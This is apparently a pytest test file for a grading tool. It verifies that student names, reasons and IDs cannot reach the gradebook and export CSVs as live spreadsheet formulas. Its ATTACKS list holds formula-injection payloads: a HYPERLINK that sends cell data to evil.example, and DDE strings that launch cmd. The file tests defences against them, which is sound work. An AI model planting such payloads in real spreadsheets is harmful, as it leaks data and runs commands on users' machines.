"""grading.spreadsheet: nothing a student wrote reaches a spreadsheet as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from grading import exports, manual, policy, report, spreadsheet
from grading.results import NotebookResult, PartResult
from grading.runner import StudentResult
from test_grading_report import PARTS

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_becomes_text_and_comes_back_unchanged(text: str) -> None:
    safe = spreadsheet.cell(text)
    assert safe == "'" + text and spreadsheet.plain(safe) == text


@pytest.mark.parametrize("value", ["-3", "-2.5", "+1", "1e-3", "alice", "Ng, Andrew", "", 4, -1.5, None])
def test_numbers_and_plain_text_are_left_alone(value) -> None:
    assert spreadsheet.cell(value) == value
    if isinstance(value, str):
        assert spreadsheet.plain(value) == value


def hostile(name: str, reason: str) -> StudentResult:
    q01 = NotebookResult("hw08-q01.ipynb", "ok", {p.id: PartResult(p, False, reason) for p in PARTS[:2]})
    q01.reasons = [reason]
    return StudentResult(name, {"hw08-q01.ipynb": q01}, info={"name": name, "student_id": "=1+1"})


def cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def test_no_cell_of_the_gradebook_or_the_exports_starts_a_formula() -> None:
    students = [hostile(ATTACKS[0], ATTACKS[1]), hostile("bob", "=2*3")]
    texts = [report.gradebook_csv(students, PARTS)]
    texts.append(exports.canvas_csv(students, {s.name: 0 for s in students}, 15, "HW 8", "777")[0])
    for text in texts:
        values = cells(text)
        assert any(v.startswith("'=") for v in values), values  # the hostile values are there, as text
        assert [v for v in values if spreadsheet.cell(v) != v] == []  # nothing left that a sheet would compute


def test_the_manual_scores_sheet_round_trips_a_hostile_name(tmp_path) -> None:
    loaded = policy.load()
    if not loaded.manual:
        pytest.skip("grading.toml grades no part by hand")
    students = [hostile(ATTACKS[0], "x")]
    sheet = tmp_path / "scores.csv"
    text = manual.scores_csv(students, loaded)
    assert ATTACKS[0] not in cells(text) and "'" + ATTACKS[0] in cells(text)
    rows = list(csv.reader(io.StringIO(text)))
    rows[1][4] = "1"
    rows[1][5] = "=see me"
    with open(sheet, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    from grading.points import parts_table

    scores = manual.read_scores(sheet, loaded, parts_table(), [ATTACKS[0]])
    ((student, _), (points, comment)) = next(iter(scores.items()))
    assert student == ATTACKS[0] and points == 1 and comment == "=see me"
